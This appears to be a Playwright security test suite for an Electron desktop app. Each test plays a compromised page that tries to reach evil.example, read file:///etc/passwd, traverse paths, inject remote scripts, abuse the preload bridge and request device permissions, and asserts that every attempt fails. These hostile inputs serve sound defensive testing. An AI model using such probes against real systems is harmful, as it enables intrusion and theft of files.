/** Attempts of a compromised page, made in the live window: each must fail. */
import type {Page} from '@playwright/test'

import {listIsRead} from '../screens.ts'
import {expect, stillAlone, test} from './desktop.ts'

test('the page cannot navigate elsewhere or open windows', async ({start}) => {
	const desktop = await start()
	const {page, electron} = desktop
	await listIsRead(page)
	const home = page.url()
	const places = ['https://evil.example/', 'http://127.0.0.1:9/', 'file:///etc/passwd', 'data:text/html,<p>', 'cordon://other/']
	for (const place of places) {
		await page.evaluate(url => void (location.href = url), place)
		await click(page, place, {})
		await click(page, place, {target: '_blank'})
		expect(await page.evaluate(url => window.open(url), place)).toBeNull()
	}
	await click(page, 'https://evil.example/x.exe', {download: 'x.exe'})
	await stillAlone(desktop, home)
	// The log names those that the engine does not stop by itself.
	await expect.poll(desktop.said).toContain('navigation to https://evil.example/')
	expect(desktop.said()).toContain('window for https://evil.example/')
	const frames = await electron.evaluate(({BrowserWindow}) =>
		BrowserWindow.getAllWindows()[0]?.webContents.mainFrame.framesInSubtree.map(({url}) => url)
	)
	expect(frames).toEqual([home])
})

test("a link to the web console opens once, in the system's browser; no other does", async ({shared}) => {
	const {page, electron} = shared
	await electron.evaluate(({shell}) => {
		const opened: string[] = []
		// However busy this computer is, all of it happens in one moment of the program.
		const moment = performance.now()
		const own = performance.now
		performance.now = () => moment
		Object.assign(shell, {own, opened, openExternal: async (url: string) => void opened.push(url)})
	})
	const others = [
		...['http://console.amp.cisco.com/', 'https://console.amp.cisco.com.evil.example/', 'https://u:p@console.amp.cisco.com/'],
		...['https://console.amp.cisco.com:444/', 'mailto:a@b.example', 'smb://evil/share', 'cordon://app/']
	]
	for (const address of others) await click(page, address, {target: '_blank'})
	const wanted = 'https://console.eu.amp.cisco.com/computers/x/trajectory2'
	await click(page, wanted, {target: '_blank'})
	// A compromised page must not flood somebody's browser.
	for (let times = 0; times < 20; times += 1) await click(page, `${wanted}?${times}`, {target: '_blank'})
	const state = () =>
		electron.evaluate(({shell, BrowserWindow}) => [Reflect.get(shell, 'opened') as unknown, BrowserWindow.getAllWindows().length])
	await expect.poll(state).toEqual([[wanted], 1])
	await electron.evaluate(({shell}) => {
		performance.now = Reflect.get(shell, 'own') as () => number
	})
})

test('no frame, no webview and no code from elsewhere gets in', async ({start}) => {
	const desktop = await start()
	const {page} = desktop
	await listIsRead(page)
	const home = page.url()
	await page.evaluate(async () => {
		for (const name of ['iframe', 'webview', 'embed', 'object', 'script']) {
			const element = document.createElement(name)
			for (const attribute of ['src', 'data'])
				try {
					element.setAttribute(attribute, 'https://evil.example/x.js')
				} catch {
					// Trusted Types refuse it already.
				}
			document.body.append(element)
		}
		const inline = document.createElement('script')
		try {
			inline.textContent = 'window.taken = true'
			document.body.append(inline)
		} catch {
			// As above.
		}
		await new Promise(resolve => requestAnimationFrame(resolve))
	})
	expect(await page.evaluate(() => 'taken' in window)).toBe(false)
	// A frame that the policy stops shows the engine's own empty page.
	const others = page.frames().filter(frame => frame !== page.mainFrame())
	expect(others.filter(frame => !/^(?:about:blank|chrome-error:.*|:|)$/.test(frame.url()))).toEqual([])
	await stillAlone(desktop, home)
})

test('the page reaches no file and no other server', async ({start}) => {
	const desktop = await start()
	const {page} = desktop
	await listIsRead(page)
	const reached = await page.evaluate(async () => {
		const places = ['file:///etc/passwd', 'https://evil.example/', 'http://127.0.0.1:9/', 'cordon://other/']
		const refused = await Promise.all(
			places.map(place =>
				fetch(place).then(
					() => place,
					() => null
				)
			)
		)
		const inside = ['cordon://app/..%2f..%2fpackage.json', 'cordon://app/../../package.json', 'cordon://app/main.js']
		const answers = await Promise.all(inside.map(async place => (await fetch(place)).status))
		// A name without a file gives the page.
		const screen = await (await fetch('cordon://app/etc/passwd')).text()
		return {refused, answers, screen: screen.slice(0, 15)}
	})
	const refused = [null, null, null, null]
	expect(reached).toEqual({refused, answers: [404, 404, 404], screen: '<!doctype html>'})
	await stillAlone(desktop, page.url())
})

test('the preload gives one function, which takes only files that a person chose', async ({start}) => {
	const desktop = await start()
	const {page} = desktop
	await listIsRead(page)
	const given = await page.evaluate(async () => {
		const frame = document.createElement('iframe')
		document.body.append(frame)
		const usual = new Set(Object.getOwnPropertyNames(frame.contentWindow ?? {}))
		const own = Object.getOwnPropertyNames(window).filter(name => !usual.has(name) && /cordon/i.test(name))
		frame.remove()
		const bridge: unknown = Reflect.get(window, own[0] ?? '')
		const take: unknown = Reflect.get(Object(bridge), 'ticketFor')
		if (typeof take !== 'function') throw new Error('The bridge is not there.')
		const words = ['/etc/passwd', {path: '/etc/passwd'}, new File(['x'], '/etc/passwd'), null, ['__proto__']]
		const tickets = await Promise.all(words.map(word => Promise.resolve(take(word) as unknown)))
		return {own: own.length, functions: Object.getOwnPropertyNames(bridge), tickets}
	})
	expect(given).toEqual({own: 1, functions: ['ticketFor'], tickets: [null, null, null, null, null]})
	const nodes = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer']
	expect(await page.evaluate(names => names.filter(name => name in window), nodes)).toEqual([])
	expect(desktop.problems).toEqual([])
})

test('what a page may ask of the computer is refused, also on a click; a link that is dragged in leads nowhere', async ({start}) => {
	const desktop = await start()
	const {page, electron} = desktop
	await listIsRead(page)
	const home = page.url()
	const asks = {
		usb: 'navigator.usb?.requestDevice({ filters: [] })',
		hid: 'navigator.hid?.requestDevice({ filters: [] })',
		serial: 'navigator.serial?.requestPort()',
		bluetooth: 'navigator.bluetooth?.requestDevice({ acceptAllDevices: true })',
		midi: 'navigator.requestMIDIAccess?.({ sysex: true })',
		fonts: 'window.queryLocalFonts?.()',
		idle: 'IdleDetector?.requestPermission().then((state) => state === "denied" && Promise.reject())',
		screens: 'window.getScreenDetails?.()',
		keyboard: 'navigator.keyboard?.lock()',
		pointer: 'document.body.requestPointerLock()',
		wake: 'navigator.wakeLock?.request()',
		payment:
			'new PaymentRequest([{ supportedMethods: "https://evil.example" }], { total: { label: "", amount: { currency: "EUR", value: "1" } } }).show()',
		credentials:
			'navigator.credentials.create({ publicKey: { challenge: new Uint8Array(8), rp: { name: "" }, user: { id: new Uint8Array(8), name: "", displayName: "" }, pubKeyCredParams: [] } })',
		worker: 'navigator.serviceWorker?.register("/sw.js")'
	}
	const session = await page.context().newCDPSession(page)
	const given: string[] = []
	for (const [name, ask] of Object.entries(asks)) {
		const expression = `Promise.resolve().then(() => ${ask}).then((got) => got !== undefined, () => false)`
		const {result} = await session.send('Runtime.evaluate', {expression, awaitPromise: true, userGesture: true})
		if (result.value !== false) given.push(name)
	}
	expect(given).toEqual([])
	await electron.evaluate(({BrowserWindow}) => BrowserWindow.getAllWindows()[0]?.webContents.openDevTools())
	const tools = ({BrowserWindow}: typeof Electron.CrossProcessExports) =>
		BrowserWindow.getAllWindows().map(({webContents}) => webContents.isDevToolsOpened())
	expect(await electron.evaluate(tools)).toEqual([false])

	for (const address of ['https://evil.example/', 'file:///etc/passwd', 'cordon://other/']) {
		const items = ['text/uri-list', 'text/plain'].map(mimeType => ({mimeType, data: address}))
		const data = {items, files: [], dragOperationsMask: 1}
		for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await session.send('Input.dispatchDragEvent', {type, x: 700, y: 400, data})
	}
	await stillAlone(desktop, home)
})

test('the window has the required settings', async ({shared}) => {
	const preferences = await shared.electron.evaluate(({BrowserWindow}) => {
		const [window] = BrowserWindow.getAllWindows()
		// Electron's types leave it out; it is there for tests such as this one.
		const contents: unknown = window?.webContents
		const read: unknown = Reflect.get(Object(contents), 'getLastWebPreferences')
		return typeof read === 'function' ? (read.call(contents) as unknown) : null
	})
	expect(preferences).toMatchObject({
		...{sandbox: true, contextIsolation: true, nodeIntegration: false, webviewTag: false, webSecurity: true},
		...{nodeIntegrationInSubFrames: false, allowRunningInsecureContent: false, experimentalFeatures: false}
	})
})

async function click(page: Page, href: string, more: Readonly<Record<string, string>>) {
	await page.evaluate(
		([url, attributes]) => {
			const link = Object.assign(document.createElement('a'), attributes)
			link.href = url
			link.click()
		},
		[href, more] as const
	)
}
